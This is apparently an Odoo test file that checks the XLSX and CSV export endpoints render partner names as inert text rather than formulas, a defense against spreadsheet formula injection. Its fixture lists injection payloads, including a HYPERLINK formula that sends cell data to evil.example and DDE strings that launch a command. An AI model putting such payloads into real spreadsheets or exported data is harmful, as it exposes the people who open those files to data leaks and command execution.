import csv
import json
import re
from io import BytesIO, StringIO
from zipfile import ZipFile

from odoo import http
from odoo.tests import HttpCase, new_test_user, tagged

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "http://evil.example/click",
    "mailto:evil@example.com",
)


@tagged("post_install", "-at_install")
class TestExport(HttpCase):
    """Odoo's own export, of lists in which buyers' words stand."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        groups = "base.group_user,base.group_allow_export,base.group_partner_manager"
        new_test_user(cls.env, login="exporter", groups=groups)
        cls.buyers = cls.env["res.partner"].create(
            [{"name": text, "ref": text, "color": 7} for text in FORMULAS]
        )

    def _export(self, kind, groupby=()):
        self.authenticate("exporter", "exporter")
        names = ("name", "ref", "color")
        data = {
            "model": "res.partner",
            "fields": [{"name": n, "label": n, "type": "char"} for n in names],
            "ids": self.buyers.ids,
            "domain": [],
            "groupby": list(groupby),
            "import_compat": False,
        }
        form = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", data=form)
        self.assertEqual(answer.status_code, 200, answer.text[:500])
        return answer.content

    def _sheet(self, content):
        """Return the sheet as it lies in the file, and all the texts of the file."""
        with ZipFile(BytesIO(content)) as book:
            parts = {name: book.read(name).decode() for name in book.namelist()}
        sheet = parts["xl/worksheets/sheet1.xml"]
        self.assertNotIn("xl/worksheets/_rels/sheet1.xml.rels", parts)
        texts = re.findall(r"<t[^>]*>([^<]*)</t>", parts["xl/sharedStrings.xml"])
        unescaped = (t.replace("&amp;", "&").replace("&quot;", '"') for t in texts)
        return sheet, list(unescaped)

    def test_an_excel_file_holds_texts_and_no_formula(self):
        sheet, texts = self._sheet(self._export("xlsx"))
        self.assertNotIn("<f>", sheet)
        self.assertNotIn("<hyperlink", sheet)
        for formula in FORMULAS:
            self.assertIn(formula, texts)
        self.assertIn("<v>7</v>", sheet)

    def test_a_grouped_excel_file_holds_no_formula_either(self):
        sheet, texts = self._sheet(self._export("xlsx", ["ref"]))
        self.assertNotIn("<f>", sheet)
        self.assertNotIn("<hyperlink", sheet)
        self.assertIn(f"{FORMULAS[0]} (1)", texts)

    def test_a_csv_file_marks_each_text_that_begins_like_a_formula(self):
        rows = list(csv.reader(StringIO(self._export("csv").decode())))[1:]
        names = {row[0] for row in rows}
        self.assertEqual(len(names), len(FORMULAS))
        for name in names:
            self.assertRegex(name, r"^('|http|mailto)")
        self.assertEqual({row[2] for row in rows}, {"7"})
